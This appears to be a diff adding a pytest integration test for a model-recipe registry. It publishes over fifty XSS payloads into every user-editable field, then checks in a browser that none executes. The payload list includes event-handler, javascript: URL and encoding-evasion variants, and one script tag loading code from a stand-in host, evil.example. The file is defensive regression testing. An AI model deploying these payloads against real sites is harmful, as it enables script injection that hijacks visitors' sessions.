@@ -1,0 +1,177 @@
+"""XSS: 50+ payloads in every user-controlled field of a recipe (and its revision notes), rendered in
+Chromium with the page's CSP bypassed (so escaping alone must hold): no dialog opens, no console
+message from a payload, no element a payload would create exists."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from lair.registry.db.engine import make_engine
+from lair.registry.serve import prepare
+from lair.registry.service.publish import publish
+from lair.testing.registry import serve_process
+
+pytestmark = pytest.mark.integration
+
+BASE_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    "<svg onload=alert(3)>",
+    "<svg><script>alert(4)</script></svg>",
+    '"><script>alert(5)</script>',
+    "'><img src=x onerror=alert(6)>",
+    "<iframe src=javascript:alert(7)>",
+    '<a href="javascript:alert(8)">x</a>',
+    "javascript:alert(9)",
+    "<body onload=alert(10)>",
+    "<input autofocus onfocus=alert(11)>",
+    "<details open ontoggle=alert(12)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>",
+    "<object data=javascript:alert(14)>",
+    "<embed src=javascript:alert(15)>",
+    "[x](javascript:alert(16))",
+    "![x](javascript:alert(17))",
+    "<scr<script>ipt>alert(18)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    '<img src="x" onerror="alert(20)">',
+    '<div style="background:url(javascript:alert(21))">',
+    '<svg><a xlink:href="javascript:alert(22)"><text>x</text></a></svg>',
+    "<marquee onstart=alert(23)>",
+    "<video><source onerror=alert(24)>",
+    "<audio src=x onerror=alert(25)>",
+    "\u003cscript\u003ealert(26)\u003c/script\u003e",
+    "＜script＞alert(27)＜/script＞",
+    "<scr\u0000ipt>alert(28)</scr\u0000ipt>",
+    "\u202e<script>alert(29)</script>",
+    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(30)>",
+    '<a href="&#106;avascript:alert(31)">x</a>',
+    "<form action=javascript:alert(32)><button>x</button></form>",
+    "<isindex action=javascript:alert(33) type=image>",
+    "<base href=javascript:alert(34)//>",
+    "<link rel=import href=data:text/html,<script>alert(35)</script>>",
+    '<meta http-equiv=refresh content="0;url=javascript:alert(36)">',
+    "{{7*7}}<script>alert(37)</script>",
+    "${alert(38)}",
+    "</textarea><script>alert(39)</script>",
+    "</title><script>alert(40)</script>",
+    "</pre><script>alert(41)</script>",
+    "<!--<script>alert(42)</script>-->",
+    "<![CDATA[<script>alert(43)</script>]]>",
+    "<img src=x:alert(44) onerror=eval(src)>",
+    "<svg><animate onbegin=alert(45) attributeName=x dur=1s>",
+    "<xss onpointerover=alert(46) style=display:block>x</xss>",
+    "`<img src=x onerror=alert(47)>`",
+    "<<script>script>alert(48)<</script>/script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0OSk8L3NjcmlwdD4=",
+    "<a href=# onclick=alert(50)>click</a>",
+    "<style>@import 'javascript:alert(51)';</style>",
+    '<img srcset="x 1w" onerror=alert(52)>',
+]
+PAYLOADS = [p.replace("\u0000", "") for p in BASE_PAYLOADS]
+
+
+def _s(v: str) -> str:
+    return json.dumps(v)  # a TOML basic string
+
+
+def recipe_with(i: int, p: str) -> str:
+    """The payload in every free-text field a recipe page shows."""
+    return f"""engine = "vllm"
+docker_image = "vllm/vllm-openai:v0.11.0"
+model = {_s(p)}
+served_model_name = {_s(p)}
+[env]
+KNOB = {_s(p)}
+[placeholders.DIR]
+type = "path"
+description = {_s(p)}
+default = {_s("/x" + p)}
+[meta]
+title = {_s(f"xss {i} {p}")}
+slug = "xss-{i}"
+summary = {_s(p)}
+tags = [{_s(p[:90])}]
+license = {_s(p[:90])}
+listed_by = {_s(p)}
+upstream_weights = {_s(p)}
+model_repo = {_s(p)}
+quantization = {_s(p)}
+launch_command = {_s(p)}
+flags = {_s(p)}
+notes = {_s(p)}
+performance_notes = {_s(p)}
+[[meta.credits]]
+who = {_s(p)}
+role = {_s(p)}
+link = {_s(p)}
+[meta.hardware]
+gpu_model = {_s(p[:90])}
+gpu_count = 1
+cpu = {_s(p)}
+notes = {_s(p)}
+[meta.engine]
+name = {_s(p[:60])}
+install_note = {_s(p)}
+[[meta.env_knobs]]
+name = "KNOB"
+value = {_s(p)}
+description = {_s(p)}
+[[meta.performance]]
+context = 2048
+decode_tok_s = 100
+note = {_s(p)}
+[[meta.quality]]
+suite = {_s(p)}
+score = 1
+[[meta.downloads]]
+name = {_s(p)}
+url = {_s(p)}
+
+"""
+
+
+@pytest.fixture(scope="module")
+def xss_site(tmp_path_factory: pytest.TempPathFactory, artifacts: Path) -> Iterator[str]:
+    db = f"sqlite:///{tmp_path_factory.mktemp('xss') / 'registry.sqlite3'}"
+    prepare(db, seed=False)
+    engine = make_engine(db)
+    with engine.begin() as conn:
+        for i, p in enumerate(PAYLOADS):
+            publish(conn, recipe_with(i, p), owner="mallory", notes=p)
+    engine.dispose()
+    with serve_process(db, seed=False, log=artifacts / "serve-xss.log") as base:
+        yield base
+
+
+def test_no_payload_executes_in_any_page(browser: Any, xss_site: str, artifacts: Path) -> None:
+    assert len(PAYLOADS) >= 50
+    ctx = browser.new_context(bypass_csp=True)
+    page = ctx.new_page()
+    fired: list[str] = []
+    page.on("dialog", lambda d: (fired.append(d.message), d.dismiss()))
+    page.on("console", lambda m: fired.append("console: " + m.text) if "alert" in m.text else None)
+    urls = ["/", "/recipes?q=xss", "/api/v1/recipes/xss-0.json"]
+    for i in range(len(PAYLOADS)):
+        urls += [
+            f"/recipes/xss-{i}",
+            f"/recipes/xss-{i}/revisions/1",
+            f"/recipes/xss-{i}/placeholders?DIR=/y",
+        ]
+    for url in urls:
+        page.goto(xss_site + url)
+        created = page.evaluate(
+            "() => document.querySelectorAll('main script, main iframe, main object, main embed, main img, "
+            "main svg:not(.chart), main video, main audio, main marquee, main details, main xss, main math, "
+            "main base, main meta, main link, main style, main [onerror], main [onload], main [onclick], "
+            'main a[href^="javascript" i]\').length'
+        )
+        assert created == 0, url
+    page.goto(xss_site + "/recipes/xss-1")
+    page.screenshot(path=str(artifacts / "xss-recipe.png"), full_page=True)
+    ctx.close()
+    assert fired == []
